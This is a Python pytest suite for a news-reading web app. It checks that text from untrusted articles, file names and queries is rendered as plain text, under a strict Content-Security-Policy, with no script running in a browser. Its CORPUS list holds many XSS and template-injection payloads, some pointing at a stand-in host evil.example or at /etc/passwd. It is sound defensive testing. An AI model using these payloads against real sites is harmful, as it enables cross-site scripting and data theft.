"""A script or a style stands in a title, an author, a publisher, an address, a quote or the name of a file.

Promised: what strangers write is text on every page and in every file that is a page: no element, attribute or address of theirs comes to
be. Pages have no script but our own file and no style of their own; every answer has a Content-Security-Policy of `default-src 'self'`
without `unsafe`, and `nosniff`. Letters that steer the direction of writing, or cannot be seen, are shown as a sign.
Not promised: that another program which is given the texts, as JSON or a table, treats them as text.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import pytest
from browsing import browser, chromium
from elements import HOSTILE, tags_of
from every_format import FORMATS, Piece
from forms import WHOLE, scaled
from small_site import Client, make_record, served

import readout
from readout.across.linking import link
from readout.sources import Article, read_source
from readout.web.access import Access, User
from readout.web.pages import PAGES

CORPUS = (
    *HOSTILE,
    "<ScRiPt>pwned=1</sCrIpT>", "<script src=//evil.example/x.js></script>", "</title><script>pwned=1</script>",
    "<img src=x onerror=pwned=1>",
    "<svg onload=pwned=1>", "<svg><script>pwned=1</script></svg>", "<math><mi xlink:href='javascript:pwned=1'>x</mi></math>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>", "<body onload=pwned=1>", "<details open ontoggle=pwned=1>",
    "<a href='javascript:pwned=1'>x</a>", "<style>*{display:none}</style>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href='//evil.example/'>",
    "<form action=//evil.example><input name=q>",
    "' onmouseover='pwned=1", '" autofocus onfocus="pwned=1', "`onclick=pwned=1`", "--><script>pwned=1</script><!--",
    "]]><script>pwned=1</script>",
    "&lt;script&gt;pwned=1&lt;/script&gt;", "&#60;script&#62;pwned=1&#60;/script&#62;", "%3Cscript%3Epwned=1%3C/script%3E",
    "<<script>pwned=1//<</script>",
    "\\x3cscript\\x3epwned=1", "{{constructor.constructor('pwned=1')()}}", "${pwned=1}", "{% include '/etc/passwd' %}",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>", "vbscript:pwned", "<noscript><p title='</noscript><img src=x onerror=pwned=1>'>",
    "<plaintext>", "<textarea>", "<!--", "<template><script>pwned=1</script>", "<object data='javascript:pwned=1'>",
    "<embed src='javascript:pwned=1'>",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-", "\ufeff<script>pwned=1</script>", "\u2028pwned=1\u2029", "<\u0000script>pwned=1</script>",
)  # fmt: skip
#: How many articles of each format, each with another of the corpus in every field.
EACH = scaled(3, len(CORPUS))
MENU = tuple(path for family in PAGES for _, path in family.menu)
FILES = tuple(
    f"/{kind}.{ending}"
    for kind in ("events", "reports", "statements", "figures", "places")
    for ending in ("json", "csv", "jsonl")
)


def pieces() -> Iterator[tuple[str, Piece]]:
    """Articles, each with its format; the corpus goes round, so that each of it is in some field of some format."""
    for n, name in enumerate(FORMATS):
        for m in range(EACH):
            bad, other, third = (CORPUS[(n * EACH + m + shift) % len(CORPUS)] for shift in (0, 13, 29))
            text = (
                f"The Vardal Front shelled the town of Osthavn on Monday, killing {m + 3} people, {bad} said Ole {other} Brandt.\n"
                f"“We will not give up {third},” Elin Sorvik, the foreign minister of Norway, said in Oslo. Report {n}-{m}."
            )
            yield name, Piece(text, bad, other, third, f"javascript:pwned=1//{other}", f"{name}-{m}{bad}")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Client]:
    """A site of them all, and of files that are named so."""
    folder = tmp_path_factory.mktemp("hostile")
    articles: list[Article] = []
    for n, (name, piece) in enumerate(pieces()):
        file = folder / f"{n}{piece.title.replace('/', '∕')[:60].replace(chr(0), '')}"
        file.write_bytes(FORMATS[name](piece))
        found = [item for item in read_source(file, file.name) if isinstance(item, Article)]
        assert len(found) == 1, (name, piece)
        articles += found
    record = make_record(tmp_path_factory.mktemp("record") / "news.db", articles)
    with record:
        link(record)
        with served(record, Access(User('<b>"Mara"</b>', "admin"))) as client:
            yield client


def pages_of(client: Client) -> list[str]:
    """The pages of lists, and of one of everything."""
    reports = json.loads(client.get("/api/reports?limit=200").body)["items"]
    assert len(reports) >= min(200, EACH * len(FORMATS) - EACH + 1)  # those of the wire have one number
    found = [
        *MENU,
        "/doctor",
        "/claims/events/1?why=1",
        "/claims/figures/1",
        "/claims/statements/1",
        "/brief?since=2025-03-10&until=2025-03-12",
    ]
    found += [f"/reports/{quote(item['id'], safe='')}" for item in reports]
    for path in ("/stories", "/incidents", "/ledgers"):
        found += sorted(set(re.findall(rf'href="({path}/[^"#?.]+)"', client.get(path).text)))[: scaled(2, 50)]
    return found


#: What no page of ours has.
NEVER = {"iframe", "object", "embed", "base", "style", "math", "template", "plaintext", "noscript"}


def look(path: str, page: str) -> None:
    """Whether a page has nothing of theirs in it."""
    tags = tags_of(page)
    assert (tags.open, tags.wrong) == ([], []), path
    for tag, attributes in tags.found:
        assert tag not in NEVER, (path, tag)
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcdoc")], (path, tag)
        for name in ("href", "src", "action", "formaction", "xlink:href"):
            value = attributes.get(name)
            if value is not None:
                assert re.match(r"(?:https?://|/(?!/)|#|\?|$)", value), (path, tag, value)
        if tag == "script":
            assert (attributes["src"] or "").startswith("/static/")
        if tag == "meta":
            assert "http-equiv" not in attributes
    assert not re.search("[\u202a-\u202e\u2066-\u2069\u200b\u0007\0]", page), path


def test_what_strangers_wrote_is_text_on_every_page(hostile: Client, figure) -> None:
    paths = pages_of(hostile)
    for path in paths:
        answer = hostile.get(path)
        assert answer.status == 200, path
        look(path, answer.text)
        csp = answer.headers["content-security-policy"]
        assert "default-src 'self'" in csp
        assert "unsafe" not in csp
        assert answer.headers["x-content-type-options"] == "nosniff"
    figure(len(CORPUS), "texts")
    figure(len(FORMATS), "formats of input")
    figure(len(paths), "pages without an element of theirs")


def test_files_say_what_they_are(hostile: Client) -> None:
    for path in (*FILES, "/api/reports", "/brief.md", "/events.geojson", "/corrections.csv"):
        answer = hostile.get(path + ("?since=2025-03-10&until=2025-03-12" if "brief" in path else ""))
        assert answer.status == 200, path
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "html" not in answer.headers["content-type"]
        assert "default-src 'self'" in answer.headers["content-security-policy"]


def test_a_brief_that_is_a_file_has_no_script(hostile: Client) -> None:
    page = hostile.get("/brief.html?since=2025-03-10&until=2025-03-12").text
    tags = tags_of(page)
    assert (tags.open, tags.wrong) == ([], [])
    assert not {tag for tag, _ in tags.found} & (NEVER - {"style"} | {"script", "img", "svg", "form"})
    assert [tag for tag, _ in tags.found].count("style") == 1
    assert not [name for _, attributes in tags.found for name in attributes if name.startswith("on")]


def test_a_query_comes_back_as_text(shared: Client, figure) -> None:
    for bad in CORPUS:
        for path in (
            "/events?q=",
            "/reports?q=",
            "/actor?key=",
            "/events?as_of=",
            "/nothing/",
            "/login?next=",
            "/brief?about=",
        ):
            look(path, shared.get(path + quote(bad.encode("utf-8", "replace"), safe="")).text)
            figure(1, "queries that came back as text")


def test_no_script_runs(hostile: Client, figure) -> None:
    if chromium() is None:
        if os.environ.get("CI"):
            pytest.fail("Chromium is not installed: .ci/run installs it")
        pytest.skip("Chromium is not installed")
    paths = pages_of(hostile)
    paths = paths if WHOLE else paths[:: max(1, len(paths) // 12)]
    with browser() as started, started.new_context() as context:
        page = context.new_page()
        wrong: list[str] = []
        asked: list[str] = []
        page.on("dialog", lambda dialog: (wrong.append(dialog.message), dialog.dismiss()))
        page.on("pageerror", lambda error: wrong.append(str(error)))
        page.on("console", lambda line: wrong.append(line.text) if line.type == "error" else None)
        page.on("request", lambda request: asked.append(request.url))
        for path in paths:
            page.goto(hostile.origin + path)
            assert page.evaluate("typeof window.pwned") == "undefined", path
            figure(1, "pages in a browser, no script ran")
        assert wrong == []
        assert not [url for url in asked if not url.startswith(f"{hostile.origin}/")]


def test_a_page_that_had_one_would_be_seen(tmp_path: Path) -> None:
    """What is looked for is found where it is."""
    for bad in (
        "<script>pwned=1</script>",
        "<img src=x onerror=pwned=1>",
        "<a href='javascript:x'>x</a>",
        "<p style='x'>x</p>",
        "<iframe></iframe>",
    ):
        with pytest.raises((AssertionError, KeyError)):
            look("/", f"<html><body>{bad}</body></html>")


def test_texts_are_kept_to_the_letter() -> None:
    """They are made harmless where they are shown, not where they are kept."""
    for bad in CORPUS[5:20]:
        assert readout.read(f"Police arrested four men in Oslo on Monday. {bad}", keep_text=True).text.endswith(bad)
